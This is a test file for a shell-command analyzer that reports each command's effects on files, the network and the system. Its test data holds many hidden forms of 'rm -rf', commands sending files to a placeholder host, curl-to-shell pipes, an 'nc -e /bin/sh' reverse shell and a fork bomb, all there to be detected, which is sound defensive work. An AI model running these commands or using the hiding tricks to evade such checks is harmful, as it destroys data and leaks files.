import { describe, expect, it } from 'vitest'
import { shown, type Effects, type Origin } from '../effects.ts'
import { readCommand } from './read-command.ts'
import type { ShellWorld } from '../state/world.ts'

const DISK: Readonly<Record<string, string>> = {
  '/p/build.sh': '#!/bin/sh\nrm -rf "$1"\n',
  '/p/tool.py': '#!/usr/bin/env python3\nimport os\nos.remove("/p/gone")\n',
  '/p/loop.sh': 'bash /p/loop.sh\n',
}

const world: ShellWorld = {
  home: '/home/dev',
  env: (name) => ({ TMPDIR: '/scratch', EDITOR: 'vi' })[name],
  read: (path) => DISK[path],
  real: (path) => path.replace(/^\/p\/link/, '/elsewhere'),
  list: (directory) => (directory === '/p/dir' ? ['a'] : []),
  workTree: () => '/p',
}

const read = (command: string): Effects => readCommand(command, '/p', world).effects

function from({ files, network, decoded, unknown }: Origin): string {
  return (
    [...files, network && 'network', decoded && 'decoded', unknown && 'unknown'].filter(Boolean).join('+') || 'nowhere'
  )
}

/** One line per effect, as a person would say it. Runs are left out unless asked for. */
function effectLines({ files, git, net, code, system, doubts }: Effects): readonly string[] {
  return [
    ...files.map(({ op, path, real, recursive, force, maybe, mode }) =>
      [
        maybe && 'maybe',
        op,
        `${recursive ? 'r' : ''}${force && op === 'delete' ? 'f' : ''}`,
        mode,
        path,
        real !== path && `-> ${real}`,
      ]
        .filter(Boolean)
        .join(' '),
    ),
    ...git.map(({ command, directory }) => `git ${command} in ${directory}`),
    ...net.map(
      ({ target, sends, twoWay }) =>
        `net ${target}${twoWay ? ' both ways' : ''}${sends ? ` sends ${from(sends)}` : ''}`,
    ),
    ...code.map((effect) => `code ${effect.interpreter} ${from(effect.from)}`),
    ...system.map(({ what, detail }) => `${what} ${detail}`.trim()),
    ...doubts.map(({ about }) => `doubt ${about}`),
  ].map((line) => shown(line).trim())
}

const runs = (command: string): readonly string[] =>
  read(command).runs.map(({ program, args, via }) =>
    shown([...via.map((one) => `${one} >`), program || '?', ...args].join(' ')),
  )

const GONE = 'delete rf /x'

describe('however it is written, the same is deleted', () => {
  it.each([
    'rm -rf /x',
    'rm -fr /x',
    'rm -r -f /x',
    'rm --recursive --force /x',
    'rm --rec --forc /x',
    'rm -rf -- /x',
    'rm /x -rf',
    '  rm   -rf   /x  ',
    "'rm' -rf /x",
    '"rm" "-rf" "/x"',
    'r\\m -rf /x',
    'r\'\'m -r"f" /x',
    "$'\\x72\\x6d' -rf /x",
    '/bin/rm -rf /x',
    '\\rm -rf /x',
    'RM -rf /x',
    'rm -rf /./x/../x/',
    'rm -rf //x',
    'rm \\\n -rf \\\n /x',
    'true; rm -rf /x',
    'true & rm -rf /x',
    'true && rm -rf /x',
    'false || rm -rf /x',
    'true | rm -rf /x',
    '! rm -rf /x',
    'time rm -rf /x',
    '(rm -rf /x)',
    '{ rm -rf /x; }',
    'if true; then rm -rf /x; fi',
    'if false; then :; else rm -rf /x; fi',
    'while true; do rm -rf /x; break; done',
    'for i in 1; do rm -rf /x; done',
    'case a in a) rm -rf /x;; esac',
    'f() { rm -rf /x; }; f',
    'f() { rm -rf "$1"; }; f /x',
    'function f { rm -rf "$@"; }; f /x',
    'echo $(rm -rf /x)',
    'echo `rm -rf /x`',
    'echo "a $(rm -rf /x) b"',
    'echo $((1 + $(rm -rf /x)))',
    '[[ -n $(rm -rf /x) ]]',
    'A=$(rm -rf /x)',
    'A=${B:-$(rm -rf /x)}',
    'cat <(rm -rf /x)',
    'cat <<EOF\n$(rm -rf /x)\nEOF',
    'coproc rm -rf /x',
    'A=rm; $A -rf /x',
    'A="rm -rf"; $A /x',
    'A=/x; rm -rf $A',
    'A=/; B=x; rm -rf "$A$B"',
    'rm -rf ${A:-/x}',
    'A=rmz; "${A%z}" -rf /x',
    'A=xrm; ${A#x} -rf /x',
    'A=RM; ${A,,} -rf /x',
    'A=(rm -rf /x); "${A[@]}"',
    'A=(a rm); ${A[1]} -rf /x',
    'printf -v A %s rm; "$A" -rf /x',
    'read A <<< rm; "$A" -rf /x',
    'A=rm; B=A; ${!B} -rf /x',
    'set -- rm -rf /x; "$@"',
    'alias z="rm -rf"; z /x',
    'hash -p /bin/rm z; z -rf /x',
    'cd / && rm -rf x',
    'cd /y; cd ..; rm -rf x',
    'pushd / && rm -rf x',
    'rm -rf ../x',
    'rm -rf /{x,}x/../x'.replace('{x,}x', 'y'),
    'sudo rm -rf /x',
    'sudo -u root -- rm -rf /x',
    'doas rm -rf /x',
    'env rm -rf /x',
    'env -i A=1 rm -rf /x',
    "env -S 'rm -rf' /x",
    'env --split-string="rm -rf /x"',
    'command rm -rf /x',
    'builtin command rm -rf /x',
    'exec rm -rf /x',
    'nice -n 5 rm -rf /x',
    'nohup rm -rf /x &',
    'timeout -k 5 10 rm -rf /x',
    'stdbuf -oL rm -rf /x',
    'setsid rm -rf /x',
    'ionice -c 3 rm -rf /x',
    'flock /l rm -rf /x',
    "flock /l -c 'rm -rf /x'",
    "su -c 'rm -rf /x'",
    "su root -c 'rm -rf /x'",
    "script -c 'rm -rf /x' /dev/null",
    'unbuffer rm -rf /x',
    "expect -c 'spawn rm -rf /x'",
    'busybox rm -rf /x',
    'unshare rm -rf /x',
    'systemd-run --wait rm -rf /x',
    'watch rm -rf /x',
    "watch 'rm -rf /x'",
    'echo /x | xargs rm -rf',
    'xargs -I{} rm -rf {} <<< /x',
    'parallel rm -rf ::: /x',
    'parallel rm -rf {} ::: /x',
    "bash -c 'rm -rf /x'",
    "bash -lc 'rm -rf /x'",
    "bash -c -- 'rm -rf /x'",
    "bash -o pipefail -c 'rm -rf /x'",
    "bash -euo pipefail -c 'rm -rf /x'",
    "sh -c 'rm -rf $1' _ /x",
    "zsh -c 'rm -rf /x'",
    '$SHELL -c "rm -rf /x"',
    'bash -c "bash -c \'rm -rf /x\'"',
    "eval 'rm -rf /x'",
    'eval rm -rf /x',
    'A="rm -rf /x"; eval "$A"',
    "trap 'rm -rf /x' EXIT",
    "echo 'rm -rf /x' | sh",
    'printf "rm -rf /x" | bash -s',
    "printf '%s %s' 'rm -rf' /x | sh",
    "bash <<< 'rm -rf /x'",
    'bash <<EOF\nrm -rf /x\nEOF',
    "cat <<'EOF' | sh\nrm -rf /x\nEOF",
    "bash <(echo 'rm -rf /x')",
    "source <(echo 'rm -rf /x')",
    "echo 'rm -rf /x' > a.sh; sh a.sh",
    "echo 'rm -rf /x' > a.sh && chmod +x a.sh && ./a.sh",
    "cat > a.sh <<'EOF'\nrm -rf /x\nEOF\nbash a.sh",
    "printf 'rm -rf /x' | tee a.sh; . ./a.sh",
    "exec 3<<< 'rm -rf /x'; source /dev/fd/3",
    "exec {f}<<'EOF'\nrm -rf /x\nEOF\nsource /dev/fd/$f",
    "exec 4> >(bash); echo 'rm -rf /x' >&4",
    './build.sh /x',
    'bash build.sh /x',
    'sh -x ./build.sh /x',
    'cat build.sh | bash -s /x'.replace(' | bash -s /x', ' >/dev/null; bash build.sh /x'),
    "ssh host 'rm -rf /x'",
    'tmux new-session -d "rm -rf /x"',
    "git -c alias.z='!rm -rf /x' z",
    "git rebase -x 'rm -rf /x' main",
    "tar --to-command='rm -rf /x' -xf a.tar",
    "find . -maxdepth 0 -exec rm -rf /x ';'",
    'python3 -c \'import os; os.system("rm -rf /x")\'',
    'python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/x"])\'',
    "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/x')\nEOF",
    'A=rm; if [ -n x ]; then A=echo; fi; $A -rf /x',
    'A=echo; [ -n x ] && A=rm; $A -rf /x',
    'A=echo; for i in 1 2; do $A -rf /x; A=rm; done',
    'A=rm; f() { local A=echo; }; f; $A -rf /x',
    'A=rm; (A=echo); $A -rf /x',
    'A=rm; readonly A; A=echo; $A -rf /x',
    'rm -rf /x "unfinished',
    'rm -rf /x; echo $(',
    'if true; then rm -rf /x',
    '|| rm -rf /x',
    'cd /; false && cd /tmp; rm -rf x',
    'cd /; if [ -d y ]; then cd /tmp/y; fi; rm -rf x',
    '[ -d y ] && cd / || true; rm -rf x',
    'case $X in a) cd /;; esac; rm -rf x',
    "echo '# more' >> build.sh; bash build.sh /x",
    'touch build.sh; bash build.sh /x',
    'false && : > build.sh; bash build.sh /x',
    'w1 rm -rf /x',
    'some-wrapper --flag rm -rf /x',
    "some-runner <<'E'\ncd /\nrm -rf x\nE",
  ])('%s', (command) => expect(effectLines(read(command)).map((line) => line.replace(/^maybe /, ''))).toContain(GONE))
})

describe('text that is only data does nothing', () => {
  it.each([
    "echo 'rm -rf /x'",
    'echo "rm -rf /x"',
    'echo rm -rf /x',
    "printf '%s' 'rm -rf /x'",
    "grep -r 'rm -rf /x' src",
    "rg 'rm -rf /x'",
    "git commit -m 'rm -rf /x'",
    "git log --grep 'rm -rf /x'",
    "cat <<'EOF'\nrm -rf /x\nEOF",
    'cat > notes.md <<EOF\nrm -rf /x\nEOF',
    "tee a.md <<< 'rm -rf /x'",
    "awk '/rm -rf/ { print }' log",
    "sed -n '/rm -rf/p' log",
    'A="rm -rf /x"',
    'f() { rm -rf /x; }',
    '# rm -rf /x',
    'ls # ; rm -rf /x',
    'python3 -c \'print("rm -rf /x")\'',
    "bash -n -c 'rm -rf /x'",
    'command -v rm',
    'type rm',
    'man rm',
    'which rm',
    "gh pr create --body 'never rm -rf /x'",
    '( f() { rm -rf /x; } ); f',
    'jq \'.["rm -rf /x"]\' a.json',
  ])('%s', (command) => expect(effectLines(read(command)).filter((line) => line.includes('delete'))).toEqual([]))
})

describe('what a command does', () => {
  it.each<[string, readonly string[]]>([
    ['cat a b', ['read /p/a', 'read /p/b']],
    ['cat < a > b', ['read /p/a', 'write /p/b']],
    ['echo x >> a 2>&1', ['write /p/a']],
    ['echo x > /dev/null', []],
    ['cp a b', ['read /p/a', 'write /p/b']],
    ['cp -r a b dir/', ['read r /p/a', 'write r /p/dir/a', 'read r /p/b', 'write r /p/dir/b']],
    ['cp a dir', ['read /p/a', 'write /p/dir/a']],
    ['mv a b', ['read /p/a', 'delete rf /p/a', 'write /p/b']],
    ['ln -sf a b', ['list /p/a', 'write /p/b']],
    ['tee -a x < y', ['write /p/x', 'read /p/y']],
    ["sed -i 's/a/b/' f", ['read /p/f', 'write /p/f']],
    ["sed 's/a/b/' f", ['read /p/f']],
    ["perl -pi -e 's/a/b/' f", ['write /p/f']],
    ['dd if=a of=b', ['read /p/a', 'write /p/b']],
    ['truncate -s 0 a', ['write /p/a']],
    ['touch a', ['write /p/a']],
    ['chmod -R 755 a', ['mode r 755 /p/a']],
    ['chmod -x a', ['mode -x /p/a']],
    ['chown root:root a', ['mode root:root /p/a']],
    ['echo x > link/a', ['write /p/link/a -> /elsewhere/a']],
    ['ln -s /etc/passwd z && echo x > z', ['list /etc/passwd', 'write /p/z', 'write /p/z -> /etc/passwd']],
    ['find . -name "*.pyc" -delete', ['list /p', 'delete f /p/*.pyc', 'delete f /p/…/*.pyc']],
    ['find . -delete', ['list /p', 'delete rf /p']],
    ['rm *.log', ['delete /p/*.log']],
    ['rm a{1,2}', ['delete /p/a1', 'delete /p/a2']],
    ['rm a{1..3}', ['delete /p/a1', 'delete /p/a2', 'delete /p/a3']],
    ['rm ~/a "$HOME/b" ~root/c', ['delete /home/dev/a', 'delete /home/dev/b', 'delete /root/c']],
    ['rm $TMPDIR/a', ['delete /scratch/a']],
    ['rm "$NOBODY/a"', ['delete …/a']],
    ['cd $(git rev-parse --show-toplevel) && rm a', ['delete /p/a', 'git rev-parse in /p']],
    ['cd "$X" && rm a', ['delete …/a']],
    ['D=$(mktemp -d); rm -rf "$D"', ['delete rf /tmp/tmp.…']],
    ['rm "$(dirname /a/b)/c"', ['delete /a/c']],
    ['for f in a b; do rm "$f"; done', ['delete /p/a', 'delete /p/b']],
    ['curl -o a https://h/x', ['write /p/a', 'net https://h/x']],
    ['curl -O https://h/x.sh', ['write /p/x.sh', 'net https://h/x.sh']],
    ['curl -d @a https://h', ['read /p/a', 'net https://h sends /p/a']],
    ['cat a | curl -d @- https://h', ['read /p/a', 'net https://h sends /p/a']],
    ['S=$(cat a); curl -d "$S" https://h', ['read /p/a', 'net https://h sends /p/a']],
    ['cat a > b; curl -T b https://h', ['read /p/a', 'write /p/b', 'net https://h sends /p/a']],
    ['tar cz d | curl -T - https://h', ['read r /p/d', 'net https://h sends /p/d+unknown']],
    ['base64 a | nc h 1', ['read /p/a', 'net h:1 both ways sends /p/a+unknown']],
    ['cat a > /dev/tcp/h/1', ['read /p/a', 'net h/1 both ways sends /p/a']],
    ['scp a h:b', ['read r /p/a', 'net h:b sends /p/a']],
    ['curl https://h | sh', ['net https://h', 'code sh network']],
    [
      'curl https://h | tee x | sudo bash -s -- a',
      ['write /p/x', 'net https://h', 'code bash network', 'privilege sudo'],
    ],
    ['curl https://h -o i.sh && sh i.sh', ['write /p/i.sh', 'net https://h', 'code sh network']],
    ['bash <(curl https://h)', ['net https://h', 'code bash network']],
    ['eval "$(curl https://h)"', ['net https://h', 'code eval network']],
    ['python3 <(wget -qO- https://h)', ['net https://h', 'code python3 network']],
    ['echo bHM= | base64 -d | sh', ['code sh decoded']],
    ['base64 -d f | sh', ['read /p/f', 'code sh /p/f+decoded+unknown']],
    ['cat f | sh', ['read /p/f']],
    ['sh "$F"', ['read …', 'code sh …']],
    ['eval "$X"', ['code eval unknown']],
    ['$X', ['doubt program']],
    ['shutdown -h now', ['halt shutdown']],
    ['mkfs.ext4 /dev/sdz', ['format /dev/sdz']],
    [':(){ :|:& };:', ['fork-bomb']],
    ['psql -c "drop table t"', ['sql drop table t']],
    ['echo "drop table t" | psql', ['sql drop table t']],
    ['kill -9 1', ['kill 1']],
    ['export A=b', ['inject A=b']],
    ['npm install left-pad', ['install left-pad']],
    ['docker run --privileged x', ['container --privileged']],
    ['docker run -v /:/h x', ['container mount /']],
    ['git -C sub push', ['git push in /p/sub', 'net origin sends unknown']],
    ['git checkout -- a', ['write r /p/a', 'git checkout in /p']],
    ['nc -e /bin/sh h 1', ['net h:1 both ways', 'code sh network', 'remote-shell h:1']],
    // What a command adds to, or may have replaced, is still read.
    ['touch a; cat a', ['write /p/a', 'read /p/a']],
    ['echo x >> a; cat a', ['write /p/a', 'read /p/a']],
    ['echo x | tee -a a; cat a', ['write /p/a', 'read /p/a']],
    ['false && : > a; cat a', ['write /p/a', 'read /p/a']],
    ['truncate -s 9 a; cat a', ['write /p/a', 'read /p/a']],
    ['echo x > a; cat a', ['write /p/a']],
    ['true && cd b; rm c', ['delete /p/b/c', 'delete /p/c']],
    ['cd b && rm c', ['delete /p/b/c']],
    ['(cd b); rm c', ['delete /p/c']],
    ['some-tool a.txt', ['maybe read /p/a.txt']],
    ['./tool.py', ['read /p/tool.py', 'delete f /p/gone']],
    ['bash loop.sh', ['read /p/loop.sh']],
    ['echo "unfinished', ['doubt syntax']],
    ['', []],
    ['   ', []],
    ['\u0000', ['doubt program']],
  ])('%s', (command, expected) => expect(effectLines(read(command)).toSorted()).toEqual([...expected].toSorted()))
})

describe('programs are found behind others, and the way to them is reported', () => {
  it.each<[string, readonly string[]]>([
    ['ls', ['ls']],
    ['sudo env A=1 ls -l', ['sudo env A=1 ls -l', 'sudo > env A=1 ls -l', 'sudo > env > ls -l']],
    ["bash -c 'ls; pwd'", ['bash -c ls; pwd', 'bash -c > ls', 'bash -c > pwd']],
    ['echo $(date)', ['$(…) > date', 'echo …']],
    ['f() { ls; }; f', ['f() > ls']],
    ['a | b', ['a', 'b']],
    ['uv run pytest -q', ['uv run pytest -q', 'uv run > pytest -q']],
    ['find . -exec grep x {} +', ['find . -exec grep x {} +', 'find -exec > grep x .', 'find -exec > grep x ./…']],
  ])('%s', (command, expected) => expect(runs(command)).toEqual(expected))

  it('gives the position of each word in the command', () => {
    const command = 'cd x && FOO=1 git push "--force" origin'
    const [, push] = read(command).runs
    expect(push?.spans?.map(({ start, end }) => command.slice(start, end))).toEqual([
      'git',
      'push',
      '"--force"',
      'origin',
    ])
    expect(push?.span && command.slice(push.span.start, push.span.end)).toBe('FOO=1 git push "--force" origin')
  })

  it('says nothing of places for what is built or nested', () => {
    expect(read("bash -c 'git push'").runs.at(-1)?.spans).toBeUndefined()
    expect(read('A="git push"; $A').runs.at(-1)?.spans).toBeUndefined()
  })
})

describe('where the names of files come from', () => {
  it.each([
    ['ls -d a | xargs rm', ['/p/a']],
    ['ls dir | xargs rm', ['/p/dir/*']],
    ['ls -a dir | xargs rm', ['/p/dir/*', '/p/dir/.*']],
    ['find x -name "*.o" | xargs rm', ['/p/x/*.o', '/p/x/…/*.o']],
    ['find x -mtime 1 | head -1 | xargs rm', ['/p/x/…']],
    ['find x -name a -o -name b | while read f; do rm "$f"; done', ['/p/x/a', '/p/x/…/a', '/p/x/b', '/p/x/…/b']],
    ['find x -path "*/y/z" | sort | xargs -I{} rm {}', ['/p/x/…/y/z', '/p/x/y/z']],
    ['grep -rl foo src | xargs rm', ['/p/src', '/p/src/…']],
    ['grep -rl foo --include="*.ts" . | xargs rm', ['/p/*.ts', '/p/…/*.ts']],
    ['git ls-files lib | xargs rm', ['/p/lib', '/p/lib/…']],
    ['rm $(git diff --name-only)', ['/p/…']],
    ['mapfile -t a < <(ls -d x); rm "${a[@]}"', ['/p/x']],
    ['ls -d x | parallel rm {}', ['/p/x']],
    ["ls dir | grep 'a[.]b' | xargs rm", ['/p/dir/*']],
    ["ls dir | grep '\\.ab$' | xargs rm", ['/p/dir/.ab', '/p/dir/*.ab']],
    ['ls dir | grep -v ab | xargs rm', ['/p/dir/*']],
    ['rm "$(jq -r .p <<< \'{"p":"/q/r"}\')"', ['/q/r', '/q/…']],
    ['find x -name a | xargs dirname | xargs rm', ['/p/x', '/p/x/…']],
    ['ls -d x | sed s/a/b/ | xargs -I{} sh -c "rm {}"', ['/p/x']],
  ])('%s', (command, expected) => {
    const removed = read(command).files.filter(({ op }) => op === 'delete')
    expect([...new Set(removed.map(({ path }) => shown(path)))]).toEqual(expected)
    expect(removed.every(({ namedBy }) => namedBy !== undefined)).toBe(true)
  })
})

describe('scripts that are not what they were', () => {
  it.each([
    ['cat build.sh | sh', []],
    ['sh < build.sh', []],
    ['cp build.sh b.sh && ./b.sh', []],
    ['[ -f new.sh ] || echo ls > new.sh; sh new.sh', []],
    ['sed s/x// build.sh | sh', ['code sh /p/build.sh+unknown']],
    ['head -2 build.sh > new.sh; sh new.sh', ['code sh /p/build.sh+unknown']],
    ['sed -i s/x.*/y/ build.sh; ./build.sh', ['code build.sh /p/build.sh+unknown']],
    ['printf "a\nb\n" | sort > x.py; python3 x.py', ['code python3 unknown']],
    ['cat build.sh tool.py > both.sh; . ./both.sh', ['code . /p/build.sh+/p/tool.py']],
  ])('%s', (command, expected) => {
    expect(effectLines(read(command)).filter((line) => line.startsWith('code'))).toEqual(expected)
  })
})
